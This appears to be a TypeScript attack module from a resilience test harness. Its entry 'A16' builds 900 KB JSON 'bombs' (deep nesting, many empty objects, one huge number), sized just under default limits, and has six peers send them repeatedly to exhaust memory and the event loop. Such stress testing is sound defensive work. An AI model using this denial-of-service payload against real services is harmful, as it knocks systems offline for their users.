import type { Attack } from '../attack.js';
import { frame } from '../raw-bytes.js';
import { keepAtIt } from './keep-at-it.js';

/** Just below the size that services take by default. */
const BYTES = 900 * 1024;
const PAUSE_MS = 5;

/** Texts of the same size that cost most to decode: depth, values, digits. */
const DATA: readonly (() => string)[] = [
  () => `${'['.repeat(BYTES / 2)}${']'.repeat(BYTES / 2)}`,
  () => `[${'{},'.repeat(BYTES / 3)}{}]`,
  () => '9'.repeat(BYTES),
];

export const jsonBombs: Attack = {
  id: 'A16',
  title: 'JSON of 900 KB that is all depth, all values, or one number',
  exhausts: 'memory and the event loop',
  async run(ground) {
    const bombs = DATA.map((data, index) =>
      frame(`{"id":"${index}","pattern":${JSON.stringify(ground.patterns.echo)},"data":${data()}}`),
    );
    await keepAtIt(ground, { peers: 6 }, async (peer, index) => {
      while (!ground.signal.aborted && (await peer.write(bombs[index % bombs.length] as Buffer))) {
        await ground.pause(PAUSE_MS);
      }
    });
  },
};
